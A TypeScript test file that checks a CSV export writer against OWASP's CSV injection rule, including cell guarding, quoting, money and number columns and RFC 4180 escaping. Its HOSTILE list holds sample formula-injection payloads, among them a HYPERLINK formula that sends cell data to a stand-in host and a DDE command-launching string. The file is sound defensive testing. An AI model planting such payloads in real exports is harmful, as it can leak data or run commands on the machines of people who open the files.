/**
 * The one CSV writer (server/core/csv.ts) against OWASP's "CSV Injection" rule: a text cell that
 * a spreadsheet would start as a formula (=, +, -, @, tab, carriage return) is prefixed with '
 * and quoted; numbers stay numbers; the file stays RFC 4180 (read back with papaparse).
 */
import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { guardCell, toCsv, type CsvColumn } from "../../server/core/csv";

interface Row {
  name: string;
  amountCents: number;
  quantity: number | null;
  note?: string | null;
}

const columns: CsvColumn<Row>[] = [
  { header: "name", value: (r) => r.name },
  { header: "amount", kind: "money", value: (r) => r.amountCents },
  { header: "quantity", kind: "number", value: (r) => r.quantity },
  { header: "note", value: (r) => r.note },
];

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"];

function readBack(csv: string): string[][] {
  return Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
}

describe("toCsv", () => {
  it("prefixes every hostile text cell with ' so no cell starts a formula", () => {
    const csv = toCsv(
      HOSTILE.map((name) => ({ name, amountCents: 100, quantity: 1, note: name })),
      columns,
    );
    const rows = readBack(csv).slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    rows.forEach((row, i) => {
      expect(row[0]).toBe(`'${HOSTILE[i]}`);
      expect(row[3]).toBe(`'${HOSTILE[i]}`);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  it("quotes a guarded cell, as OWASP recommends", () => {
    const csv = toCsv([{ name: "=1+1", amountCents: 0, quantity: null }], columns);
    expect(csv.split("\r\n")[1].startsWith(`"'=1+1"`)).toBe(true);
  });

  it("leaves ordinary text alone, inner = and - included", () => {
    const rows = readBack(toCsv([{ name: "1,2-Dichloroethane (DCE) = solvent", amountCents: 0, quantity: 0, note: "lot A-12" }], columns)).slice(1);
    expect(rows[0][0]).toBe("1,2-Dichloroethane (DCE) = solvent");
    expect(rows[0][3]).toBe("lot A-12");
  });

  it("writes money as a number with two decimals, negative amounts included, never prefixed", () => {
    const csv = toCsv(
      [
        { name: "credit", amountCents: -1234, quantity: -2.5 },
        { name: "charge", amountCents: 5, quantity: 0 },
        { name: "even", amountCents: 120000, quantity: 3 },
      ],
      columns,
    );
    const lines = csv.split("\r\n");
    expect(lines[1]).toBe("credit,-12.34,-2.5,");
    expect(lines[2]).toBe("charge,0.05,0,");
    expect(lines[3]).toBe("even,1200.00,3,");
  });

  it("writes a number column with fixed decimals as a figure, negative ones unprefixed, empty for null", () => {
    type Row = { hours: number | null };
    const csv = toCsv<Row>([{ hours: 40 }, { hours: -2.5 }, { hours: 1 / 3 }, { hours: null }], [{ header: "hours", kind: "number", decimals: 2, value: (r) => r.hours }]);
    expect(csv).toBe("hours\r\n40.00\r\n-2.50\r\n0.33\r\n");
  });

  it("refuses a money cell that is not whole cents, rather than writing text into a money column", () => {
    expect(() => toCsv([{ name: "x", amountCents: 12.5, quantity: 0 }], columns)).toThrow(/integer cents/);
    expect(() => toCsv([{ name: "x", amountCents: "-12" as unknown as number, quantity: 0 }], columns)).toThrow(/integer cents/);
  });

  it("refuses text in a number column, so a person's text cannot pass as a number", () => {
    expect(() => toCsv([{ name: "x", amountCents: 0, quantity: "=1+1" as unknown as number }], columns)).toThrow(/numbers/);
  });

  it("writes empty cells for null and undefined, yes/no for booleans and a header line", () => {
    const csv = toCsv([{ flag: true, none: null }], [
      { header: "flag", value: (r: { flag: boolean; none: null }) => r.flag },
      { header: "none", value: (r: { flag: boolean; none: null }) => r.none },
    ]);
    expect(csv).toBe("flag,none\r\nyes,");
  });

  it("keeps commas, quotes and line breaks inside one cell", () => {
    const name = 'Tetrabutylammonium "TBA+" chloride,\nrecrystallised';
    const rows = readBack(toCsv([{ name, amountCents: 1, quantity: 1 }], columns)).slice(1);
    expect(rows[0][0]).toBe(name);
  });
});

describe("guardCell", () => {
  it.each(HOSTILE)("guards %j", (v) => expect(guardCell(v)).toBe(`'${v}`));
  it.each(["Ferrocene", "LiCl 10 mM", "", "'already quoted"])("leaves %j alone", (v) => expect(guardCell(v)).toBe(v));
});
